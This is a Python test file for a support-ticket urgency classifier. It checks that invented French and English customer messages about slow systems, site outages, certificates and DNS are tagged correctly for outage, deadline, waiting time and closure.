def test_the_hour_we_said_we_would_act_is_a_promise():
    """"Je le supprime à 16h": at 16:45 they write that it is as slow as ever; they have waited since 16:00."""
    story = [customer(at(0), "Notre ERP est inutilisable depuis ce matin."),
             us(at(0, 30), "Le snapshot de cette nuit ralentit tout. Je le supprime à 16h ; le retour à la normale "
                           "devrait être immédiat ensuite."),
             customer(at(15, 45), "Vous m'aviez dit 16h. L'ERP est toujours aussi lent.")]
    assert terms(heat(story, at(16)))["waiting"] == "waiting 1 h"


# --- what the blind sets ub, uc, ue and uf showed ----------------------------------------------------------------

@pytest.mark.parametrize("text, said", [
    ("Since lunchtime the booking confirmations from our website don't seem to be going out; two guests have rung to "
     "check.", "don't seem to be going out"),
    ("Our website's enquiry form doesn't seem to have sent us anything since Saturday. Usually we get five to ten a "
     "day.", "doesn't seem to have sent us anything"),
    ("Notre site gites-haut-vallon.fr affiche une page disant que le compte est suspendu. J'ai pourtant fait le "
     "virement le 28.", "compte est suspendu"),
    # It works on one kind of device only: the others are down.
    ("Depuis ce midi les iPhones de nos 12 commerciaux n'arrivent plus à récupérer les mails. Sur les PC du bureau ça "
     "marche.", "n'arrivent plus"),
])
def test_what_the_blind_sets_ub_to_uf_say_is_down(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert said in terms(h)["down"] and not h.probably_done


def test_nobody_arriving_at_the_office_before_an_hour_is_no_outage_nor_deadline():
    """"OK merci de l'info, de toute façon personne n'arrive au bureau avant 8h30": a thank-you, and their day."""
    story = [customer(at(0), "Bonjour, le serveur de fichiers ne répond plus."),
             us(at(0, 10), "Bonjour, le serveur a redémarré, la vérification du disque est en cours (20 à 30 minutes). "
                           "Je vous tiens informé."),
             customer(at(0, 15), "OK merci de l'info, de toute façon personne n'arrive au bureau avant 8h30.")]
    h = terms(heat(story, at(0, 30)))
    assert "personne" not in h.get("down", "") and "deadline" not in h
    alone = terms(heat(story[2:], at(0, 30)))
    assert "down" not in alone and "deadline" not in alone
    assert "down" in terms(heat([customer(at(0), "Personne au bureau n'arrive à se connecter au webmail.")], at(1)))


def test_taking_back_a_report_as_their_own_broadband_closes_it():
    story = [customer(at(0), "Hi, our website isn't loading at all from the office. Is there a problem?"),
             customer(at(0, 10), "Ignore that, sorry! It's our office broadband that's down, the site works fine on "
                                 "my phone on 4G. Have a good weekend!")]
    assert heat(story, at(1)).probably_done


def test_a_site_that_came_back_by_itself_is_not_down_whatever_they_ask():
    story = [customer(at(0), "Hi my website is down!!! error 500!!!"),
             customer(at(0, 15), "Oh it's come back by itself. Sorry for all the messages. But is it fixed for good or "
                                 "could it happen again this weekend?")]
    assert "down" not in terms(heat(story, at(1)))


def test_back_but_angry_is_back_and_back_but_broken_is_not():
    down = customer(at(0), "Notre site et nos mails ont été coupés ce matin pour « impayé ». C'est inadmissible.")
    angry = customer(at(2), "Bon, tout est revenu, mais je trouve inacceptable d'avoir appris par un mail groupé que "
                            "c'était votre faute. Je veux une explication écrite.")
    assert "down" not in terms(heat([down, angry], at(3)))
    broken = customer(at(2), "Bon, tout est revenu, mais les mails ne partent toujours pas.")
    assert "down" in terms(heat([down, broken], at(3)))


def test_finding_it_and_doing_it_themselves_closes_the_case_and_its_deadline():
    story = [customer(at(0), "VOTRE NOUVEAU PANEL EST INUTILISABLE. Impossible de trouver où on modifie les DNS. Je "
                             "dois ajouter un enregistrement pour notre outil de mailing ce soir."),
             us(at(0, 20), "Bonjour, le menu DNS est sous Domaines > onglet « Zone DNS ». Si vous préférez, "
                           "envoyez-moi l'enregistrement et je l'ajoute pour vous."),
             customer(at(0, 30), "Bon ok trouvé, c'est ajouté. Vous auriez pu prévenir.")]
    h = heat(story, at(0, 40))
    assert h.probably_done and "deadline" not in terms(h)


def test_their_yes_to_our_stopgap_keeps_the_outage_though_our_reply_told_of_an_order():
    story = [customer(at(0), "Our booking site shows 'Your connection is not private' since this afternoon; guests "
                             "can't book for the weekend."),
             us(at(1), "Hi Owen, I've placed the renewal order now, but validation can take a day or two. In the "
                       "meantime I can install a free Let's Encrypt certificate so the site works again tonight. Shall "
                       "I go ahead?"),
             customer(at(1, 20), "Yes please, do it now!! Anything that makes the warning go away.")]
    assert "down" in terms(heat(story, at(2)))


def test_a_time_we_set_before_their_deadline_takes_its_place():
    """They want the cut-over tonight; we set it for 20:30 and they agree: no deadline, until our hour passes."""
    story = [customer(at(10), "Comme convenu, on valide la bascule de la base ce soir après 20h. Il nous la faut "
                              "avant 23h."),
             us(at(11), "Parfait. Je lance la réplication finale à 20h, bascule vers 20h30, et je vous appelle avant "
                        "de couper l'ancienne base."),
             customer(at(12), "Ok merci, on attend votre appel vers 20h30.")]
    assert "deadline" not in terms(heat(story, at(13)))
    assert "deadline" in terms(heat(story[:1], at(13)))
